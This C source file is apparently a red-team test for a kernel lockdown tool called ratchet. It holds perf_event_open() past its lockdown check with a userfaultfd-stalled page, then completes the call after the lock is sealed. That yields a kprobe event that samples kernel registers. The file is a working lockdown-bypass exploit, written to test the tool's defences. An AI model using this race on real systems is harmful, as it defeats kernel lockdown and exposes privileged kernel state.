// SPDX-License-Identifier: GPL-2.0
/*
 * rt19-perf.c - red team 19 (in a test VM only): a perf event that samples
 * kernel registers (PERF_SAMPLE_REGS_INTR) created after `ratchet lock
 * perf` exited 0.
 *
 * `ratchet-rt19-perf READY`
 *
 * perf_event_open() asks security_locked_down(LOCKDOWN_PERF) for
 * REGS_INTR early, right after copying the attributes, and only then
 * allocates the event (perf_event_alloc() -> the PMU's event_init,
 * kernel/events/core.c, 6.1 to 7.2). The kprobe PMU's event_init copies
 * the probed function's name from user memory (perf_kprobe_init(),
 * kernel/trace/trace_event_perf.c: strncpy_from_user() of
 * attr.kprobe_func). That page is registered with userfaultfd: the call
 * waits there, past the lockdown check, for as long as root likes.
 * READY is written once it waits. Then this process watches for the
 * seal with ratchet's own `perf` probe (REGS_INTR with
 * PERF_FLAG_PID_CGROUP and pid -1: EINVAL before the lock, EPERM once
 * sealed), gives the page ("__x64_sys_getppid"), and the event is made:
 * an fd of a REGS_INTR kprobe event, under a lock of perf. It then
 * samples the kernel's registers at that function and prints one
 * sample, and shows that a fresh identical perf_event_open() is refused.
 * Exit 0 if the held call returned an event, 1 if not, 2 on setup errors.
 */
#define _GNU_SOURCE
#include <stdint.h>
#include <stdlib.h>
#include <linux/perf_event.h>
#include "uffd-hold.h"

#define PAGE HOLD_PAGE
#define MASK 0x1ffULL /* ax bx cx dx si di bp sp ip */

static struct hold hold;
static volatile int opened, mapped, sampled;
static long rc = -2;
static int err, ktype;

static void attr_of(struct perf_event_attr *a, const char *func)
{
	memset(a, 0, sizeof(*a));
	a->size = sizeof(*a);
	a->type = (unsigned int)ktype;
	a->config = 0;				/* kprobe, not kretprobe */
	a->config1 = (uint64_t)(uintptr_t)func; /* kprobe_func */
	a->config2 = 0;				/* probe_offset */
	a->sample_period = 1;
	a->sample_type = PERF_SAMPLE_IP | PERF_SAMPLE_REGS_INTR;
	a->sample_regs_intr = MASK;
	a->wakeup_events = 1;
}

static void *opener(void *arg)
{
	struct perf_event_attr a;
	int i;

	(void)arg;
	attr_of(&a, hold.page);
	rc = syscall(SYS_perf_event_open, &a, 0, -1, -1, 0);
	err = errno;
	opened = 1;
	/* the event follows this thread (pid 0): sample here once mapped */
	for (i = 0; rc >= 0 && !mapped && i < 10000; i++)
		usleep(1000);
	for (i = 0; rc >= 0 && mapped && i < 4; i++)
		syscall(SYS_getppid);
	sampled = 1;
	return NULL;
}

static int sealed(void)
{
	struct perf_event_attr a = { .size = sizeof(a),
				     .type = PERF_TYPE_SOFTWARE,
				     .config = PERF_COUNT_SW_CPU_CLOCK,
				     .sample_period = 1000000,
				     .sample_type = PERF_SAMPLE_REGS_INTR,
				     .sample_regs_intr = MASK };
	long r = syscall(SYS_perf_event_open, &a, -1, -1, -1,
			 PERF_FLAG_PID_CGROUP);

	if (r >= 0)
		close((int)r);
	return r < 0 && errno == EPERM;
}

int main(int argc, char **argv)
{
	static char page[PAGE] = "__x64_sys_getppid";
	struct perf_event_mmap_page *mp;
	struct perf_event_attr a;
	pthread_t th;
	long fresh;
	FILE *f;

	if (argc != 2)
		return fprintf(stderr, "usage: %s READY\n", argv[0]), 2;
	if (!(f = fopen("/sys/bus/event_source/devices/kprobe/type", "r")) ||
	    fscanf(f, "%d", &ktype) != 1)
		return perror("rt19-perf: kprobe PMU"), 2;
	fclose(f);
	if (hold_make(&hold, 0))
		return perror("rt19-perf: userfaultfd"), 2;
	if (hold_start(&hold, opener, &th, argv[1])) {
		printf("rt19-perf: the call never reached the copy: rc %ld (%s)\n",
		       rc, strerror(err));
		return 2;
	}
	printf("rt19-perf: perf_event_open(REGS_INTR, kprobe PMU) passed its lockdown check; held at the copy of kprobe_func\n");
	fflush(stdout);
	if (hold_await_seal(sealed))
		return printf("rt19-perf: no seal seen\n"), 2;
	hold_give(&hold, page);
	while (!opened)
		usleep(1000);
	printf("rt19-perf: seal seen (ratchet's perf probe refused); the held perf_event_open returned %ld%s%s\n",
	       rc, rc < 0 ? ": " : "", rc < 0 ? strerror(err) : "");
	attr_of(&a, page);
	fresh = syscall(SYS_perf_event_open, &a, 0, -1, -1, 0);
	printf("rt19-perf: a fresh identical perf_event_open now: %s\n",
	       fresh >= 0 ? "ALLOWED" : strerror(errno));
	if (rc < 0) {
		pthread_join(th, NULL);
		return 1;
	}
	mp = mmap(NULL, 9 * PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, (int)rc,
		  0);
	if (mp == MAP_FAILED) {
		printf("rt19-perf: mmap: %s\n", strerror(errno));
		return 0;
	}
	mapped = 1;
	pthread_join(th, NULL);
	{
		uint64_t head = mp->data_head, off = 0;
		char *data = (char *)mp + PAGE;
		int shown = 0;

		__sync_synchronize();
		while (off < head && !shown) {
			struct perf_event_header *h =
				(void *)(data + (off % (8 * PAGE)));

			if (h->type == PERF_RECORD_SAMPLE) {
				uint64_t *v = (uint64_t *)(h + 1);

				printf("rt19-perf: kernel sample: ip %#llx, regs abi %llu, ax %#llx, sp %#llx, ip %#llx\n",
				       (unsigned long long)v[0],
				       (unsigned long long)v[1],
				       (unsigned long long)v[2],
				       (unsigned long long)v[9],
				       (unsigned long long)v[10]);
				shown = 1;
			}
			off += h->size ? h->size : 8;
		}
		if (!shown)
			printf("rt19-perf: no sample buffered (head %llu)\n",
			       (unsigned long long)head);
	}
	return 0;
}
